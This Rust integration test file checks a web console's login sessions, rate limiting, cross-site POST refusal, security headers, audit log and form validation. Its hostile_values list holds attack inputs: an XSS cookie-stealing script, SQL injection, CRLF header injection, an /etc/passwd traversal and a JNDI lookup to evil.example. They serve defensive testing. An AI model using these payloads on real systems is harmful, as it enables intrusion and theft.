//! Issue 10's security checks through the console's real router (with the
//! authentication layer `serve` adds) against an in-process sandbox and a
//! temporary SQLite database:
//! - with a password set, every page, server function and endpoint answers
//!   only with a session (routes enumerated from Leptos's route list and the
//!   server function registry, so new ones are covered automatically);
//! - logins: wrong passwords refused and rate-limited, sessions in cookies
//!   (HttpOnly, SameSite=Strict), stored hashed, kept across a restart, ended
//!   by logout;
//! - cross-site POSTs refused on every server function and form;
//! - security headers (CSP with the page's nonce) on every response;
//! - the audit log records mutations with their user;
//! - every form's fields given malformed, oversized and hostile input get a
//!   clear error and change nothing in SQLite or the sandbox.

mod support;

use std::collections::BTreeMap;

use axum::body::Body;
use http::{Method, Request, StatusCode, header};
use keywatch_app::api::audit::AuditPage;
use keywatch_app::error::AppError;
use support::World;
use support::requests::{Reply, encode};

const PASSWORD: &str = "correct horse battery staple";

struct Harness {
    router: axum::Router,
    world: World,
}

impl Harness {
    async fn new(password: bool) -> Harness {
        let world = World::new().await;
        if password {
            let hash = keywatch::auth::hash_password(PASSWORD).expect("hash");
            world.db.accounts().set_password_hash(keywatch::auth::ADMIN, &hash, 0).await.expect("stored");
        }
        let mut harness = Harness { router: axum::Router::new(), world };
        harness.router = harness.build_router().await;
        harness
    }

    /// The router as `serve` builds it (a restart builds a new one on the same database).
    async fn build_router(&self) -> axum::Router {
        self.world.app(self.world.auth().await)
    }

    async fn send(&self, request: Request<Body>) -> Reply {
        support::requests::send(&self.router, request).await
    }

    /// Logs in with `password`; the reply carries the cookie when it worked.
    async fn login(&self, password: &str) -> Reply {
        let body = format!("password={}&next=%2Fhistory", encode(password));
        self.send(
            request(Method::POST, "/login", &[(header::CONTENT_TYPE.as_str(), "application/x-www-form-urlencoded")])
                .body(Body::from(body))
                .expect("request"),
        )
        .await
    }

    async fn session_cookie(&self) -> String {
        let reply = self.login(PASSWORD).await;
        assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
        let set_cookie = reply.header(header::SET_COOKIE.as_str());
        set_cookie.split(';').next().expect("name=value").to_owned()
    }

    /// Row counts of every table but the audit log, and the retention setting.
    async fn sqlite_snapshot(&self) -> BTreeMap<String, String> {
        let pool = sqlx::SqlitePool::connect(&format!("sqlite://{}?mode=ro", self.world.db_path.display()))
            .await
            .expect("read-only pool");
        let tables: Vec<String> = sqlx::query_scalar(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT IN ('audit_log', 'sqlite_sequence')",
        )
        .fetch_all(&pool)
        .await
        .expect("tables");
        let mut snapshot = BTreeMap::new();
        for table in tables {
            let count: i64 = sqlx::query_scalar(sqlx::AssertSqlSafe(format!("SELECT count(*) FROM \"{table}\"")))
                .fetch_one(&pool)
                .await
                .expect("count");
            snapshot.insert(table, count.to_string());
        }
        let retention: Option<Option<i64>> = sqlx::query_scalar("SELECT keep_days FROM history_retention WHERE id = 1")
            .fetch_optional(&pool)
            .await
            .expect("retention");
        snapshot.insert("history_retention.keep_days".into(), format!("{retention:?}"));
        pool.close().await;
        snapshot
    }

    /// What the sandbox holds that a form could change: stacks, topics and
    /// their subscriptions.
    async fn sandbox_snapshot(&self) -> Vec<String> {
        let mut state = Vec::new();
        let cloudformation = aws_sdk_cloudformation::Client::new(&self.world.aws.sdk_config);
        let stacks = cloudformation.list_stacks().send().await.expect("ListStacks");
        for stack in stacks.stack_summaries() {
            state.push(format!("stack {:?} {:?}", stack.stack_name(), stack.stack_status()));
        }
        let sns = self.world.aws.sns();
        for topic in sns.list_topics().await.expect("ListTopics") {
            for subscription in sns.list_subscriptions_by_topic(&topic).await.expect("ListSubscriptionsByTopic") {
                state.push(format!(
                    "{topic} {} {} {}",
                    subscription.protocol, subscription.endpoint, subscription.subscription_arn
                ));
            }
            state.push(topic);
        }
        state.sort();
        state
    }

    async fn audit(&self) -> AuditPage {
        let records = self.world.db.audit().page(None, 1000).await.expect("audit");
        AuditPage { records, next_before: None }
    }
}

/// A request to the console with `headers`.
fn request(method: Method, path: &str, headers: &[(&str, &str)]) -> http::request::Builder {
    headers
        .iter()
        .fold(support::requests::request(method, path), |builder, (name, value)| builder.header(*name, *value))
}

/// Every page path the app routes, with parameters filled in.
fn page_paths() -> Vec<String> {
    let mut paths: Vec<String> = leptos_axum::generate_route_list(keywatch_app::App)
        .iter()
        .map(|route| {
            route
                .path()
                .split('/')
                .map(|segment| if segment.starts_with(['{', ':', '*']) { "x1" } else { segment })
                .collect::<Vec<_>>()
                .join("/")
        })
        .map(|path| if path.is_empty() { "/".to_owned() } else { path })
        .collect();
    paths.sort();
    paths.dedup();
    paths
}

/// Every registered server function: path and method.
fn server_functions() -> Vec<(String, Method)> {
    let mut functions: Vec<(String, Method)> =
        leptos::server_fn::axum::server_fn_paths().map(|(path, method)| (path.to_owned(), method)).collect();
    functions.sort_by(|a, b| a.0.cmp(&b.0));
    functions
}

#[tokio::test]
async fn with_a_password_every_page_and_server_function_needs_a_session() {
    let harness = Harness::new(true).await;
    let pages = page_paths();
    // The list really is the app's: a new page lands here by itself.
    for expected in ["/", "/audit", "/history", "/history/x1", "/lab", "/lab/teardown", "/lab/x1", "/subscribers"] {
        assert!(pages.contains(&expected.to_owned()), "{expected} missing from {pages:?}");
    }
    for page in &pages {
        let reply = harness
            .send(request(Method::GET, page, &[("accept", "text/html")]).body(Body::empty()).expect("request"))
            .await;
        assert_eq!(reply.status, StatusCode::SEE_OTHER, "{page}: {}", reply.body);
        assert!(reply.header("location").starts_with("/login?next="), "{page}: {}", reply.header("location"));
        // Not a browser: no redirect, a plain 401.
        let reply = harness.send(request(Method::GET, page, &[]).body(Body::empty()).expect("request")).await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{page}");
    }
    let functions = server_functions();
    assert!(functions.len() >= 20, "{functions:?}");
    for (path, method) in &functions {
        for accept in ["application/json", "text/html"] {
            let reply = harness
                .send(
                    request(
                        method.clone(),
                        path,
                        &[("accept", accept), ("content-type", "application/x-www-form-urlencoded")],
                    )
                    .body(Body::empty())
                    .expect("request"),
                )
                .await;
            assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{method} {path} ({accept}): {}", reply.body);
            assert!(reply.body.contains("Log in first"), "{path}: {}", reply.body);
        }
    }
    for (method, path) in [(Method::GET, "/history.csv"), (Method::GET, "/no-such-page"), (Method::POST, "/history")] {
        let reply = harness.send(request(method.clone(), path, &[]).body(Body::empty()).expect("request")).await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{method} {path}");
    }
    // A made-up cookie is no session.
    let reply = harness
        .send(
            request(Method::POST, "/api/session/info", &[("cookie", "keywatch_session=forged")])
                .body(Body::empty())
                .expect("request"),
        )
        .await;
    assert_eq!(reply.status, StatusCode::UNAUTHORIZED);

    // Open: the health check, the login page, static assets (404 here: no site is built).
    assert_eq!(
        harness.send(request(Method::GET, "/healthz", &[]).body(Body::empty()).expect("r")).await.status,
        StatusCode::OK
    );
    let login = harness.send(request(Method::GET, "/login", &[]).body(Body::empty()).expect("r")).await;
    assert_eq!(login.status, StatusCode::OK);
    assert!(login.body.contains(r#"type="password""#), "{}", login.body);
    let asset = harness.send(request(Method::GET, "/pkg/keywatch.css", &[]).body(Body::empty()).expect("r")).await;
    assert_ne!(asset.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn logins_start_hashed_sessions_that_survive_a_restart_and_end_at_logout() {
    let mut harness = Harness::new(true).await;

    let wrong = harness.login("not the password at all").await;
    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
    assert!(wrong.body.contains("Wrong password."), "{}", wrong.body);
    assert!(wrong.header("set-cookie").is_empty());

    let reply = harness.login(PASSWORD).await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
    assert_eq!(reply.header("location"), "/history");
    let set_cookie = reply.header("set-cookie");
    assert!(set_cookie.contains("; HttpOnly") && set_cookie.contains("; SameSite=Strict"), "{set_cookie}");
    assert!(!set_cookie.contains("Secure"), "plain http on loopback: {set_cookie}");
    let cookie = set_cookie.split(';').next().expect("pair").to_owned();
    let token = cookie.trim_start_matches("keywatch_session=");
    assert!(token.len() >= 43, "256 bits: {token}");

    // Only the token's hash is stored.
    let raw = std::fs::read(&harness.world.db_path).expect("db file");
    let wal = std::fs::read(harness.world.db_path.with_extension("db-wal")).unwrap_or_default();
    for bytes in [&raw, &wal] {
        assert!(!bytes.windows(token.len()).any(|w| w == token.as_bytes()), "the raw token is in SQLite");
    }

    let info = |cookie: String| {
        request(Method::POST, "/api/session/info", &[("cookie", &cookie), ("accept", "application/json")])
            .body(Body::empty())
            .expect("request")
    };
    let reply = harness.send(info(cookie.clone())).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    assert_eq!(reply.body, r#"{"password_required":true,"user":"admin"}"#);

    // A restart: a new router on the same database accepts the session.
    harness.router = harness.build_router().await;
    assert_eq!(harness.send(info(cookie.clone())).await.status, StatusCode::OK);

    let logout = harness
        .send(
            request(Method::POST, "/logout", &[("cookie", &cookie), ("origin", "http://127.0.0.1:3000")])
                .body(Body::empty())
                .expect("r"),
        )
        .await;
    assert_eq!(logout.status, StatusCode::SEE_OTHER);
    assert!(logout.header("set-cookie").contains("Max-Age=0"));
    assert_eq!(harness.send(info(cookie)).await.status, StatusCode::UNAUTHORIZED);

    let actions: Vec<(String, String, String)> =
        harness.audit().await.records.into_iter().map(|r| (r.action, r.user, r.outcome)).collect();
    assert_eq!(
        actions,
        vec![
            ("auth.logout".into(), "admin".into(), "succeeded".into()),
            ("auth.login".into(), "admin".into(), "succeeded".into()),
            ("auth.login".into(), "anonymous".into(), "refused".into()),
        ]
    );
}

#[tokio::test]
async fn failed_logins_are_rate_limited_with_a_clear_message() {
    let harness = Harness::new(true).await;
    for _ in 0..5 {
        assert_eq!(harness.login("wrong password, again").await.status, StatusCode::UNAUTHORIZED);
    }
    // Even the right password waits now: the limit is checked first.
    let limited = harness.login(PASSWORD).await;
    assert_eq!(limited.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(
        limited.body.contains("Too many failed logins from your address: try again in 15 minute(s)."),
        "{}",
        limited.body
    );
    assert!(!limited.header("retry-after").is_empty());
}

#[tokio::test]
async fn a_cross_site_post_is_refused_on_every_server_function_and_form() {
    let harness = Harness::new(true).await;
    let cookie = harness.session_cookie().await;
    let before = harness.sqlite_snapshot().await;
    let mut posts: Vec<String> =
        server_functions().into_iter().filter(|(_, method)| method == Method::POST).map(|(path, _)| path).collect();
    posts.extend(["/login".to_owned(), "/logout".to_owned()]);
    for path in &posts {
        for (name, value) in [("origin", "https://evil.example"), ("sec-fetch-site", "cross-site"), ("origin", "null")]
        {
            let reply = harness
                .send(
                    request(
                        Method::POST,
                        path,
                        &[("cookie", &cookie), (name, value), ("content-type", "application/x-www-form-urlencoded")],
                    )
                    .body(Body::from("input[keep_days]=1&password=x"))
                    .expect("request"),
                )
                .await;
            assert_eq!(reply.status, StatusCode::FORBIDDEN, "{path} with {name}: {value}");
        }
    }
    assert_eq!(harness.sqlite_snapshot().await, before);
    // The session still works: the refused logout did not end it.
    let reply = harness
        .send(request(Method::POST, "/api/session/info", &[("cookie", &cookie)]).body(Body::empty()).expect("request"))
        .await;
    assert_eq!(reply.status, StatusCode::OK);
}

#[tokio::test]
async fn every_response_carries_the_security_headers_and_pages_a_nonce_policy() {
    let harness = Harness::new(true).await;
    let cookie = harness.session_cookie().await;
    let page = harness
        .send(
            request(Method::GET, "/audit", &[("cookie", &cookie), ("accept", "text/html")])
                .body(Body::empty())
                .expect("r"),
        )
        .await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let policy = page.header("content-security-policy");
    let nonce = policy
        .split(['\'', ' '])
        .find_map(|part| part.strip_prefix("nonce-"))
        .unwrap_or_else(|| panic!("no nonce in {policy}"))
        .to_owned();
    assert!(policy.contains("script-src 'self' 'nonce-") && policy.contains("'wasm-unsafe-eval'"), "{policy}");
    assert!(!policy.contains("unsafe-inline"), "{policy}");
    assert!(page.body.contains(&format!(r#"nonce="{nonce}""#)), "the inline scripts carry the nonce");
    assert!(page.body.contains("Signed in as admin"), "{}", page.body);
    assert!(!page.body.contains("No password is set"));
    // Another response, another nonce.
    let again = harness
        .send(
            request(Method::GET, "/audit", &[("cookie", &cookie), ("accept", "text/html")])
                .body(Body::empty())
                .expect("r"),
        )
        .await;
    assert!(!again.header("content-security-policy").contains(&nonce));

    let replies = [
        page,
        harness.send(request(Method::GET, "/login", &[]).body(Body::empty()).expect("r")).await,
        harness.send(request(Method::GET, "/healthz", &[]).body(Body::empty()).expect("r")).await,
        harness.send(request(Method::POST, "/api/session/info", &[]).body(Body::empty()).expect("r")).await,
        harness
            .send(request(Method::POST, "/api/session/info", &[("cookie", &cookie)]).body(Body::empty()).expect("r"))
            .await,
        harness
            .send(request(Method::GET, "/no-such-page", &[("cookie", &cookie)]).body(Body::empty()).expect("r"))
            .await,
    ];
    for reply in replies {
        assert!(reply.header("content-security-policy").contains("frame-ancestors 'none'"), "{}", reply.status);
        assert_eq!(reply.header("x-content-type-options"), "nosniff");
        assert_eq!(reply.header("referrer-policy"), "same-origin");
        assert_eq!(reply.header("x-frame-options"), "DENY");
    }
}

#[tokio::test]
async fn without_a_password_pages_say_so_and_the_audit_log_names_the_local_user() {
    let harness = Harness::new(false).await;
    let page =
        harness.send(request(Method::GET, "/", &[("accept", "text/html")]).body(Body::empty()).expect("r")).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("No password is set"), "{}", page.body);
    assert_eq!(
        harness.send(request(Method::GET, "/login", &[]).body(Body::empty()).expect("r")).await.status,
        StatusCode::SEE_OTHER
    );

    let set = |days: &str| {
        request(Method::POST, "/api/history/set-retention", &[("content-type", "application/x-www-form-urlencoded")])
            .body(Body::from(format!("input[keep_days]={days}")))
            .expect("request")
    };
    assert_eq!(harness.send(set("30")).await.status, StatusCode::OK);
    assert_eq!(harness.send(set("7")).await.status, StatusCode::OK);
    let reply = harness
        .send(
            request(Method::POST, "/api/audit/page", &[("content-type", "application/json")])
                .body(Body::from("{\"input\":{}}"))
                .expect("r"),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let page: AuditPage = serde_json::from_str(&reply.body).expect("an AuditPage");
    let seen: Vec<(&str, &str, &str, &str)> = page
        .records
        .iter()
        .map(|r| (r.user.as_str(), r.action.as_str(), r.target.as_str(), r.outcome.as_str()))
        .collect();
    assert_eq!(
        seen,
        vec![
            ("local (no password)", "history.retention", "keep 7 days", "succeeded"),
            ("local (no password)", "history.retention", "keep 30 days", "succeeded"),
        ]
    );
    assert!(page.records[0].at.ends_with('Z'));
}

#[tokio::test]
async fn the_audit_log_records_the_sessions_user_and_pages_newest_first() {
    let harness = Harness::new(true).await;
    let cookie = harness.session_cookie().await;
    for days in 1..=60 {
        let reply = harness
            .send(
                request(
                    Method::POST,
                    "/api/history/set-retention",
                    &[("cookie", &cookie), ("content-type", "application/x-www-form-urlencoded")],
                )
                .body(Body::from(format!("input[keep_days]={days}")))
                .expect("request"),
            )
            .await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    }
    let page_of = |before: Option<i64>| {
        let body = serde_json::json!({ "input": { "before": before } }).to_string();
        request(Method::POST, "/api/audit/page", &[("cookie", &cookie), ("content-type", "application/json")])
            .body(Body::from(body))
            .expect("request")
    };
    let first: AuditPage = serde_json::from_str(&harness.send(page_of(None)).await.body).expect("page");
    assert_eq!(first.records.len(), 50);
    assert_eq!((first.records[0].user.as_str(), first.records[0].target.as_str()), ("admin", "keep 60 days"));
    let second: AuditPage = serde_json::from_str(&harness.send(page_of(first.next_before)).await.body).expect("page");
    // 60 retention changes and the login: 11 on the second page.
    assert_eq!(second.records.len(), 11);
    assert_eq!(second.records.last().map(|r| r.action.as_str()), Some("auth.login"));
    assert_eq!(second.next_before, None);
    // The page itself renders on the server, with its nav entry.
    let html = harness
        .send(
            request(Method::GET, "/audit", &[("cookie", &cookie), ("accept", "text/html")])
                .body(Body::empty())
                .expect("r"),
        )
        .await;
    assert!(html.body.contains("keep 60 days") && html.body.contains(r#"href="/audit""#), "{}", html.body);
    assert!(html.body.contains("/audit?before="), "an Older link");
}

/// Malformed, oversized and hostile values.
fn hostile_values() -> Vec<String> {
    vec![
        String::new(),
        "<script>alert(document.cookie)</script>".into(),
        "'; DROP TABLE audit_log; --".into(),
        "\" OR 1=1 --".into(),
        "line\r\nInjected: header\u{0}\u{7}\u{1b}[31m".into(),
        "99999999999999999999999999999999".into(),
        "-1".into(),
        "1e309".into(),
        "NaN".into(),
        "../../../../etc/passwd".into(),
        "${jndi:ldap://evil.example/a}".into(),
        "\u{202e}gnp.exe".into(),
        "x".repeat(100_000),
    ]
}

/// The reply to a hostile input: refused with a clear error, never a 2xx, a
/// crash or an internal error.
fn assert_refused(reply: &Reply, what: &str) {
    if std::env::var_os("KEYWATCH_SHOW_REFUSALS").is_some() {
        eprintln!("{what:.120} -> {} {:.200}", reply.status, reply.body);
    }
    assert!(!reply.status.is_success(), "{what} was accepted: {:.300}", reply.body);
    assert!(reply.body.len() < 4096, "{what}: the error echoes the input whole ({} bytes)", reply.body.len());
    assert!(
        reply.status != StatusCode::UNAUTHORIZED && reply.status != StatusCode::FORBIDDEN,
        "{what}: {}",
        reply.status
    );
    match serde_json::from_str::<AppError>(&reply.body) {
        Ok(AppError::Internal) => panic!("{what}: internal error"),
        Ok(error) => assert!(!error.to_string().is_empty(), "{what}"),
        // Only a body Leptos cannot read is refused before the server function runs.
        Err(_) => assert!(reply.status.is_client_error(), "{what}: {} {:.200}", reply.status, reply.body),
    }
}

#[tokio::test]
async fn every_forms_fields_refuse_hostile_input_and_nothing_is_written() {
    let harness = Harness::new(true).await;
    let cookie = harness.session_cookie().await;
    let topic_arn = aws_sdk_sns::Client::new(&harness.world.aws.sdk_config)
        .create_topic()
        .name("pattern1-logging-topic")
        .send()
        .await
        .expect("CreateTopic")
        .topic_arn
        .expect("arn");
    // An alarm the threshold form can target (PutMetricAlarm, as any alarm).
    harness.world.put_alarm("hostile-test-alarm", "Pattern1").await;
    let sqlite_before = harness.sqlite_snapshot().await;
    let sandbox_before = harness.sandbox_snapshot().await;
    let audit_before = harness.audit().await.records.len();

    let form = |path: &str, fields: &[(&str, &str)]| {
        let body: Vec<String> = fields.iter().map(|(k, v)| format!("{}={}", encode(k), encode(v))).collect();
        request(
            Method::POST,
            path,
            &[
                ("cookie", &cookie),
                ("content-type", "application/x-www-form-urlencoded"),
                ("accept", "application/json"),
            ],
        )
        .body(Body::from(body.join("&")))
        .expect("request")
    };
    let json = |path: &str, body: serde_json::Value| {
        request(
            Method::POST,
            path,
            &[("cookie", &cookie), ("content-type", "application/json"), ("accept", "application/json")],
        )
        .body(Body::from(body.to_string()))
        .expect("request")
    };

    for value in hostile_values() {
        let v = value.as_str();
        let short = &v[..v.len().min(40)];
        // Subscribers: add (each field hostile in turn, the others valid).
        for fields in [
            [("input[topic_arn]", v), ("input[protocol]", "email"), ("input[endpoint]", "ops@example.com")],
            [("input[topic_arn]", topic_arn.as_str()), ("input[protocol]", v), ("input[endpoint]", "ops@example.com")],
            [("input[topic_arn]", topic_arn.as_str()), ("input[protocol]", "email"), ("input[endpoint]", v)],
        ] {
            let reply = harness.send(form("/api/subscribers/add", &fields)).await;
            assert_refused(&reply, &format!("subscribers/add {fields:?}"));
        }
        let reply = harness.send(form("/api/subscribers/remove", &[("input[subscription_arn]", v)])).await;
        assert_refused(&reply, &format!("subscribers/remove {short:?}"));
        let reply = harness
            .send(form(
                "/api/subscribers/resend",
                &[
                    ("input[topic_arn]", topic_arn.as_str()),
                    ("input[protocol]", "email"),
                    ("input[masked_endpoint]", v),
                ],
            ))
            .await;
        assert_refused(&reply, &format!("subscribers/resend {short:?}"));
        let reply = harness.send(form("/api/subscribers/confirm", &[("input[message_id]", v)])).await;
        assert_refused(&reply, &format!("subscribers/confirm {short:?}"));
        // Connection: Region and profile, each hostile in turn.
        for fields in [
            [("input[region]", v), ("input[profile]", "")],
            [("input[region]", "ap-southeast-2"), ("input[profile]", v)],
        ] {
            if fields[1].1.is_empty() && fields[0].1 == "ap-southeast-2" {
                continue;
            }
            let reply = harness.send(form("/api/connection/change", &fields)).await;
            assert_refused(&reply, &format!("connection/change {fields:?}"));
        }
        // History: retention.
        if !v.is_empty() {
            let reply = harness.send(form("/api/history/set-retention", &[("input[keep_days]", v)])).await;
            assert_refused(&reply, &format!("history/set-retention {short:?}"));
        }
        // History: the filter form's time fields.
        for field in ["from", "to"] {
            if v.is_empty() {
                continue;
            }
            let reply = harness
                .send(json("/api/history/page", serde_json::json!({"input": {"filter": {field: v}, "after": null}})))
                .await;
            assert_refused(&reply, &format!("history/page {field}={short:?}"));
        }
        // The wizard: preview, deploy, teardown.
        let reply = harness
            .send(json(
                "/api/lab/preview",
                serde_json::json!({"request": {"section": "BaseNetwork", "prefix": v, "parameters": []}}),
            ))
            .await;
        assert_refused(&reply, &format!("lab/preview prefix {short:?}"));
        // The logging section's form: numbers, an email address, a choice.
        for key in ["AlarmThreshold", "AlarmPeriod", "EmailAddress", "AlarmComparisonOperator", "NoSuchParameter"] {
            let reply = harness
                .send(json(
                    "/api/lab/preview",
                    serde_json::json!({"request": {"section": "LoggingAndAlarm", "prefix": "pattern1", "parameters": [[key, v]]}}),
                ))
                .await;
            assert_refused(&reply, &format!("lab/preview {key}={short:?}"));
        }
        let reply = harness
            .send(json(
                "/api/lab/preview",
                serde_json::json!({"request": {"section": v, "prefix": "pattern1", "parameters": []}}),
            ))
            .await;
        assert_refused(&reply, &format!("lab/preview section {short:?}"));
        for (prefix, change_set) in
            [(v, "arn:aws:cloudformation:ap-southeast-2:111122223333:changeSet/x/1"), ("pattern1", v)]
        {
            let reply = harness
                .send(json("/api/lab/deploy", serde_json::json!({"request": {"section": "BaseNetwork", "prefix": prefix, "change_set_id": change_set}})))
                .await;
            assert_refused(&reply, &format!("lab/deploy {short:?}"));
        }
        for (prefix, confirmation) in [(v, v), ("pattern1", v)] {
            let reply = harness
                .send(json(
                    "/api/lab/teardown",
                    serde_json::json!({"request": {"prefix": prefix, "confirmation": confirmation}}),
                ))
                .await;
            assert_refused(&reply, &format!("lab/teardown {short:?}"));
        }
        // The Testing page: round trip, attack size and rate, stop.
        for (name, text) in [(v, "hello"), ("record-1", v)] {
            let reply = harness
                .send(json("/api/testing/round-trip", serde_json::json!({"request": {"name": name, "text": text}})))
                .await;
            assert_refused(&reply, &format!("testing/round-trip {short:?}"));
        }
        for (count, rate) in [(v, "1"), ("3", v)] {
            let reply = harness
                .send(json("/api/testing/attack", serde_json::json!({"request": {"count": count, "rate": rate}})))
                .await;
            assert_refused(&reply, &format!("testing/attack {short:?}"));
        }
        let reply = harness.send(json("/api/testing/stop", serde_json::json!({"request": {"id": v}}))).await;
        assert_refused(&reply, &format!("testing/stop {short:?}"));
        // The Alarms pages: every field of the threshold form in turn (on an
        // alarm that exists), the alarm's name, and a detection's values.
        let fields = [
            "threshold",
            "comparison_operator",
            "statistic",
            "period",
            "evaluation_periods",
            "datapoints_to_alarm",
            "treat_missing_data",
        ];
        for field in fields {
            let mut form = serde_json::json!({
                "threshold": "1", "comparison_operator": "GreaterThanThreshold", "statistic": "Sum",
                "period": "10", "evaluation_periods": "1", "datapoints_to_alarm": "1", "treat_missing_data": "ignore"
            });
            form[field] = serde_json::Value::from(v);
            for path in ["/api/thresholds/preview", "/api/thresholds/apply"] {
                // Any finite double (-1, 1e32) is a valid CloudWatch threshold:
                // previewing or applying it is a real request, not hostile input.
                if field == "threshold" && v.parse::<f64>().is_ok_and(f64::is_finite) {
                    continue;
                }
                let reply = harness
                    .send(json(
                        path,
                        serde_json::json!({"request": {"alarm_name": "hostile-test-alarm", "form": form}}),
                    ))
                    .await;
                assert_refused(&reply, &format!("{path} {field}={short:?}"));
            }
        }
        let reply =
            harness.send(json("/api/thresholds/alarm", serde_json::json!({"request": {"alarm_name": v}}))).await;
        assert_refused(&reply, &format!("thresholds/alarm {short:?}"));
        // The login form.
        let reply = harness.login(v).await;
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "login {short:?}");
        assert!(!reply.body.contains("<script>alert"), "the login page echoes nothing unescaped");
        // Forget the failures so the rate limit does not hide the next check.
        let _ = harness.login(PASSWORD).await;
    }
    // Numbers beyond f64 and NaN are refused beside their own field, before
    // AWS is asked (they would slip past MinValue/MaxValue comparisons).
    for huge in ["1e309", "NaN", "-inf"] {
        let reply = harness
            .send(json(
                "/api/lab/preview",
                serde_json::json!({"request": {"section": "LoggingAndAlarm", "prefix": "pattern1",
                    "parameters": [["AlarmPeriod", huge]]}}),
            ))
            .await;
        match serde_json::from_str::<AppError>(&reply.body) {
            Ok(AppError::InvalidInput { field, message }) => {
                assert_eq!(
                    (field.as_deref(), message.as_str()),
                    (Some("AlarmPeriod"), "Parameter 'AlarmPeriod' must be a number.")
                );
            }
            other => panic!("{huge}: {other:?}"),
        }
    }
    // Bodies that are not the form at all.
    for (path, body) in [
        ("/api/subscribers/add", "%%%"),
        ("/api/history/set-retention", "input=1&input[keep_days][x]=2"),
        ("/api/lab/deploy", "{not json"),
        ("/api/lab/teardown", "[]"),
    ] {
        let content_type =
            if path.starts_with("/api/lab") { "application/json" } else { "application/x-www-form-urlencoded" };
        let reply = harness
            .send(
                request(Method::POST, path, &[("cookie", &cookie), ("content-type", content_type)])
                    .body(Body::from(body))
                    .expect("r"),
            )
            .await;
        assert_refused(&reply, &format!("{path} {body}"));
    }

    let mut sqlite_after = harness.sqlite_snapshot().await;
    // Logins in between started sessions; nothing else may have changed.
    sqlite_after.insert("sessions".into(), sqlite_before["sessions"].clone());
    assert_eq!(sqlite_after, sqlite_before);
    assert_eq!(harness.sandbox_snapshot().await, sandbox_before);
    // What reached the backends is in the audit log, and none of it succeeded
    // except the test's own logins.
    let audit = harness.audit().await.records;
    assert!(audit.len() > audit_before);
    for record in &audit[..audit.len() - audit_before] {
        assert!(record.outcome != "succeeded" || record.action == "auth.login", "{record:?}");
        assert!(!record.target.contains('\n') && !record.target.contains('\u{0}'), "{record:?}");
        assert!(record.target.chars().count() <= 501, "{}", record.target.len());
    }
}

/// The shell leaves its page policy beside Leptos's response options too,
/// so a page whose options never reach the response still leaves with its
/// own policy instead of the script-free default (and still hydrates).
#[tokio::test]
async fn a_page_policy_left_in_the_request_reaches_the_response() {
    use keywatch_app::csp::PolicySlot;
    use tower::ServiceExt as _;
    let page = |request: Request<Body>| async move {
        if let Some(slot) = request.extensions().get::<PolicySlot>() {
            slot.leave(http::HeaderValue::from_static("script-src 'self' 'nonce-left'"));
        }
        "page"
    };
    let app = axum::Router::new()
        .route("/page", axum::routing::get(page))
        .route("/file", axum::routing::get(|| async { "file" }))
        .layer(axum::middleware::from_fn(keywatch::security::security_headers));
    let policy_of = |path: &'static str| {
        let app = app.clone();
        async move {
            let response =
                app.oneshot(Request::get(path).body(Body::empty()).expect("request")).await.expect("response");
            response.headers()[header::CONTENT_SECURITY_POLICY].to_str().expect("ascii").to_owned()
        }
    };
    assert_eq!(policy_of("/page").await, "script-src 'self' 'nonce-left'");
    assert_eq!(policy_of("/file").await, keywatch::security::DEFAULT_POLICY);
}
